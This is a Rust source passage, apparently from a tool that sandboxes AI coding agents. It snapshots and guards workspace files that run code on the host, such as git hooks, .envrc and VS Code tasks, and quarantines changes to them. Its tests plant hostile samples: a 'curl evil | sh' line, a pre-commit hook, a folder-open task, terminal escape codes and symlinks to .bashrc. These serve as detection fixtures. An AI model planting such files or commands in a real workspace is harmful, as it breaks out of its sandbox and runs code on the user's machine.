/// What git's configuration says in each workspace, asked of the host's
/// own `git` (so includes and the user's global file count as git will
/// count them). A workspace git cannot read gives nothing.
fn git_configs(roots: &[Root]) -> Vec<GitConfig> {
    let home = crate::dirs::user_home();
    roots
        .iter()
        .map(|r| match crate::exec::run(&git_config_invocation(&r.host)) {
            Ok(out) => parse_git_config(out.stdout.as_bytes(), &r.host, home.as_deref()),
            Err(_) => GitConfig::default(),
        })
        .collect()
}

/// The plan for a sandbox now, from the host's view.
fn plan_for(rec: &super::Record, settings: &Settings) -> (Vec<Root>, Plan) {
    let roots = Root::of(rec);
    let cfg = git_configs(&roots);
    let plan = plan(&roots, &settings.protect, &cfg);
    (roots, plan)
}

/// Before the agent starts: changes since the last snapshot (a session
/// that ended without its check, a `ppp exec`) are checked first, then the
/// workspace is recorded again. Returns the extra `-v` values for the
/// agent's container (none when the guard is off or with `--clone`).
pub fn before_agent(
    dirs: &crate::dirs::Dirs,
    rec: &super::Record,
    settings: &Settings,
) -> anyhow::Result<(Vec<String>, Option<Outcome>)> {
    if matches!(settings.protection(rec), Protection::Off | Protection::Clone) {
        return Ok((Vec::new(), None));
    }
    let earlier = check(dirs, rec, settings)?;
    let (roots, plan) = plan_for(rec, settings);
    save(dirs, &rec.name, &snapshot(&roots, &plan))?;
    Ok((plan.mounts, earlier))
}

/// Compare the workspace with the last snapshot: report what changed
/// (stderr is the caller's; the report is appended to the guard's log for
/// `ppp diagnose`), move it aside with `strict`, and record what is there
/// now as the next check's starting point. `None` when there was no
/// snapshot to compare with.
pub fn check(dirs: &crate::dirs::Dirs, rec: &super::Record, settings: &Settings) -> anyhow::Result<Option<Outcome>> {
    if matches!(settings.protection(rec), Protection::Off | Protection::Clone) {
        return Ok(None);
    }
    let path = dirs.sandbox_guard(&rec.name);
    let Some(text) = crate::state::read_optional(&path)? else { return Ok(None) };
    let before: Snapshot = crate::state::parse_json(&path, &text)?;
    let (roots, plan) = plan_for(rec, settings);
    let now = snapshot(&roots, &plan);
    let changes = compare(&before, &now);
    let mut out = Outcome::default();
    if !changes.is_empty() {
        out.text = render(&rec.name, &changes);
        if settings.strict {
            let moved = quarantine(&changes);
            out.moved = !moved.is_empty();
            out.text.push_str(&render_moved(&moved));
        } else {
            let _ = writeln!(
                out.text,
                "hint: read them before you run git or open the folder in an editor; `--strict` (or `workspace.strict` \
                 in config.yaml) moves them aside"
            );
        }
        log(dirs, &rec.name, &out.text)?;
    }
    out.changes = changes;
    // After a quarantine the workspace differs again: record it as it is.
    let next = if out.moved { snapshot(&roots, &plan) } else { now };
    save(dirs, &rec.name, &next)?;
    Ok(Some(out))
}

/// What the checks reported for a sandbox so far (its log's tail).
#[must_use]
pub fn reports(dirs: &crate::dirs::Dirs, sandbox: &str) -> Option<String> {
    let text = std::fs::read_to_string(dirs.sandbox_guard_log(sandbox)).ok()?;
    (!text.is_empty()).then_some(text)
}

/// The log keeps at most this much: the newest reports.
const MAX_LOG: usize = 256 << 10;

fn log(dirs: &crate::dirs::Dirs, sandbox: &str, text: &str) -> anyhow::Result<()> {
    let path = dirs.sandbox_guard_log(sandbox);
    let _lock = crate::state::Lock::acquire(&dirs.state_lock())?;
    let old = crate::state::read_optional(&path)?.unwrap_or_default();
    let stamp = time::OffsetDateTime::now_utc().format(&time::format_description::well_known::Rfc3339)?;
    let mut all = format!("{old}--- {stamp}\n{text}");
    if all.len() > MAX_LOG {
        let cut = all.len() - MAX_LOG;
        let cut = (cut..all.len()).find(|&k| all.is_char_boundary(k)).unwrap_or(all.len());
        all = all.split_off(cut);
    }
    crate::state::write_atomic(&path, all.as_bytes())
}

fn save(dirs: &crate::dirs::Dirs, sandbox: &str, snap: &Snapshot) -> anyhow::Result<()> {
    let _lock = crate::state::Lock::acquire(&dirs.state_lock())?;
    if !dirs.sandbox(sandbox).is_dir() {
        // Removed meanwhile: nothing to keep.
        return Ok(());
    }
    crate::state::write_json(&dirs.sandbox_guard(sandbox), snap)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn root(dir: &Path) -> Vec<Root> {
        vec![Root {
            host: dir.to_path_buf(),
            canonical: std::fs::canonicalize(dir).unwrap(),
            guest: dir.display().to_string(),
        }]
    }

    #[test]
    fn git_config_origins_hooks_path_and_includes() {
        let out = b"file:.git/config\0core.hookspath\n.husky/_\0file:.git/config\0include.path\n../shared.inc\0\
file:/home/me/.gitconfig\0includeif.gitdir:/w/.path\n~/w.inc\0command line:\0x.y\nz\0";
        let cfg = parse_git_config(out, Path::new("/w"), Some(Path::new("/home/me")));
        assert_eq!(cfg.origins, [PathBuf::from("/w/.git/config"), PathBuf::from("/home/me/.gitconfig")]);
        assert_eq!(cfg.hooks_path, Some(PathBuf::from("/w/.husky/_")));
        assert_eq!(cfg.includes, [PathBuf::from("/w/.git/../shared.inc"), PathBuf::from("/home/me/w.inc")]);
    }

    #[test]
    fn a_repository_gets_its_git_dir_pinned_and_hooks_and_config_read_only() {
        let t = tempfile::tempdir().unwrap();
        let w = t.path();
        std::fs::create_dir_all(w.join(".git/hooks")).unwrap();
        std::fs::write(w.join(".git/config"), "[core]\n").unwrap();
        std::fs::create_dir_all(w.join(".git/modules/lib/hooks")).unwrap();
        std::fs::write(w.join(".git/modules/lib/config"), "[core]\n").unwrap();
        std::fs::create_dir_all(w.join(".husky/_")).unwrap();
        std::fs::write(w.join("shared.inc"), "[alias]\n").unwrap();
        let roots = root(w);
        let c = &roots[0].canonical;
        let cfg = GitConfig {
            origins: vec![c.join(".git/config"), PathBuf::from("/nonexistent/.gitconfig")],
            hooks_path: Some(c.join(".husky/_")),
            includes: vec![c.join("shared.inc"), c.join("later.inc"), PathBuf::from("/elsewhere.inc")],
        };
        let plan = plan(&roots, &["Makefile".to_owned()], &[cfg]);
        let g = roots[0].guest.clone();
        let shown: Vec<String> = plan.mounts.iter().map(|m| m.replace(&g, "W")).collect();
        insta::assert_snapshot!(shown.join("\n"), @r"
        W/.git:W/.git
        W/shared.inc:W/shared.inc:ro
        W/.git/config:W/.git/config:ro
        W/.git/hooks:W/.git/hooks:ro
        W/.husky/_:W/.husky/_:ro
        W/.git/modules/lib:W/.git/modules/lib
        W/.git/modules/lib/config:W/.git/modules/lib/config:ro
        W/.git/modules/lib/hooks:W/.git/modules/lib/hooks:ro
        ");
        let watched: Vec<&str> = plan.watched[0].iter().map(|(p, _)| p.as_str()).collect();
        for p in [".envrc", ".git/hooks", "later.inc", ".husky/_", "Makefile", ".git/modules/lib/config"] {
            assert!(watched.contains(&p), "{p} in {watched:?}");
        }
        assert!(!watched.iter().any(|p| p.contains("elsewhere")), "{watched:?}");
    }

    #[test]
    fn a_git_file_is_followed_from_the_host_before_the_agent_runs() {
        let t = tempfile::tempdir().unwrap();
        let w = t.path();
        // A worktree of a repository that is in the workspace too.
        std::fs::create_dir_all(w.join("main/.git/hooks")).unwrap();
        std::fs::write(w.join("main/.git/config"), "[core]\n").unwrap();
        std::fs::create_dir_all(w.join("main/.git/worktrees/wt")).unwrap();
        std::fs::write(w.join("main/.git/worktrees/wt/commondir"), "../..\n").unwrap();
        std::fs::write(w.join("main/.git/worktrees/wt/gitdir"), format!("{}/wt/.git\n", w.display())).unwrap();
        std::fs::create_dir_all(w.join("wt")).unwrap();
        std::fs::write(w.join("wt/.git"), "gitdir: ../main/.git/worktrees/wt\n").unwrap();
        let mut roots = root(&w.join("wt"));
        roots.extend(root(&w.join("main")));
        let plan = plan(&roots, &[], &[]);
        let shown: Vec<String> = plan.mounts.iter().map(|m| m.replace(&w.display().to_string(), "T")).collect();
        insta::assert_snapshot!(shown.join("\n"), @r"
        T/main/.git:T/main/.git
        T/wt/.git:T/wt/.git:ro
        T/main/.git/config:T/main/.git/config:ro
        T/main/.git/hooks:T/main/.git/hooks:ro
        T/main/.git/worktrees/wt:T/main/.git/worktrees/wt
        T/main/.git/worktrees/wt/commondir:T/main/.git/worktrees/wt/commondir:ro
        T/main/.git/worktrees/wt/gitdir:T/main/.git/worktrees/wt/gitdir:ro
        ");
        // A pointer out of every workspace binds nothing: the VM does not
        // have that directory at all.
        std::fs::write(w.join("wt/.git"), "gitdir: /etc\n").unwrap();
        let plan = super::plan(&roots[..1], &[], &[]);
        assert_eq!(plan.mounts, [format!("{}/wt/.git:{}/wt/.git:ro", w.display(), w.display())]);
    }

    #[test]
    fn the_snapshot_never_follows_a_planted_link_and_quarantine_moves_the_link() {
        let t = tempfile::tempdir().unwrap();
        let outside = tempfile::tempdir().unwrap();
        std::fs::write(outside.path().join("bashrc"), "the user's\n").unwrap();
        let w = t.path();
        std::fs::write(w.join(".envrc"), "export A=1\n").unwrap();
        let roots = root(w);
        let plan = plan(&roots, &[], &[]);
        let before = snapshot(&roots, &plan);
        std::fs::remove_file(w.join(".envrc")).unwrap();
        std::os::unix::fs::symlink(outside.path().join("bashrc"), w.join(".envrc")).unwrap();
        // A linked directory: nothing below it is read.
        std::os::unix::fs::symlink(outside.path(), w.join(".vscode")).unwrap();
        std::fs::create_dir_all(w.join(".git/hooks")).unwrap();
        std::fs::write(w.join(".git/hooks/pre-commit"), "#!/bin/sh\ntouch /tmp/owned\n").unwrap();
        std::fs::write(w.join(".git/hooks/pre-commit.sample"), "#!/bin/sh\n").unwrap();
        let after = snapshot(&roots, &plan);
        let changes = compare(&before, &after);
        let shown: Vec<(String, How, Option<Kind>)> =
            changes.iter().map(|c| (c.path.clone(), c.how, c.after.as_ref().map(|a| a.kind))).collect();
        assert_eq!(
            shown,
            [
                (".envrc".to_owned(), How::Changed, Some(Kind::Symlink)),
                (".git/hooks/pre-commit".to_owned(), How::Created, Some(Kind::File)),
                (".vscode".to_owned(), How::Created, Some(Kind::Symlink)),
            ]
        );
        let moved = quarantine(&changes);
        assert!(moved.iter().all(Result::is_ok), "{moved:?}");
        // The link moved, its target untouched; the earlier .envrc is back.
        assert_eq!(std::fs::read_to_string(outside.path().join("bashrc")).unwrap(), "the user's\n");
        assert!(std::fs::symlink_metadata(w.join(".envrc.ppp-quarantine")).unwrap().file_type().is_symlink());
        assert_eq!(std::fs::read_to_string(w.join(".envrc")).unwrap(), "export A=1\n");
        assert!(!w.join(".git/hooks/pre-commit").exists());
        assert!(w.join(".git/hooks/pre-commit.ppp-quarantine").exists());
        assert!(std::fs::symlink_metadata(w.join(".vscode.ppp-quarantine")).is_ok());
        assert!(outside.path().join("bashrc").exists());
    }

    #[test]
    fn the_snapshot_is_bounded() {
        let t = tempfile::tempdir().unwrap();
        let w = t.path();
        std::fs::create_dir_all(w.join(".idea")).unwrap();
        for i in 0..(MAX_ENTRIES + 10) {
            std::fs::write(w.join(format!(".idea/f{i}")), "x").unwrap();
        }
        let roots = root(w);
        let plan = plan(&roots, &[], &[]);
        let s = snapshot(&roots, &plan);
        assert!(s.trees[0].truncated);
        assert_eq!(s.trees[0].entries.len(), MAX_ENTRIES);
    }

    #[test]
    fn the_report_escapes_what_the_guest_chose() {
        let file = |text: &str, mode| Entry {
            kind: Kind::File,
            mode,
            size: text.len() as u64,
            digest: Some(format!("sha256:{}", text.len())),
            text: Some(text.to_owned()),
            target: None,
        };
        let changes = vec![
            Change {
                root: "/home/me/app".into(),
                path: ".envrc".into(),
                how: How::Created,
                before: None,
                after: Some(file("curl evil | sh\n\u{1b}]0;owned\u{7}\n", 0o644)),
            },
            Change {
                root: "/home/me/app".into(),
                path: ".vscode/tasks.json\u{1b}[2J".into(),
                how: How::Changed,
                before: Some(file("{\n  \"tasks\": []\n}\n", 0o644)),
                after: Some(file("{\n  \"tasks\": [{\"runOptions\": {\"runOn\": \"folderOpen\"}}]\n}\n", 0o644)),
            },
            Change {
                root: "/home/me/app".into(),
                path: ".git/hooks/pre-push".into(),
                how: How::Created,
                before: None,
                after: Some(Entry {
                    kind: Kind::Symlink,
                    mode: 0o777,
                    size: 9,
                    digest: None,
                    text: None,
                    target: Some("/home/me/.bashrc".into()),
                }),
            },
        ];
        insta::assert_snapshot!(render("red", &changes), @r#"
        ppp: in sandbox `red`, the agent created or changed files that can run code on this host when you next work in the workspace:
          created: /home/me/app/.envrc (file, 26 bytes, mode 644)
            +curl evil | sh
            +\u{1b}]0;owned\u{7}
          changed: /home/me/app/.vscode/tasks.json\u{1b}[2J (file, 57 bytes, mode 644)
             {
            -  "tasks": []
            +  "tasks": [{"runOptions": {"runOn": "folderOpen"}}]
             }
          created: /home/me/app/.git/hooks/pre-push (symbolic link to `/home/me/.bashrc`, not followed)
        "#);
    }
}
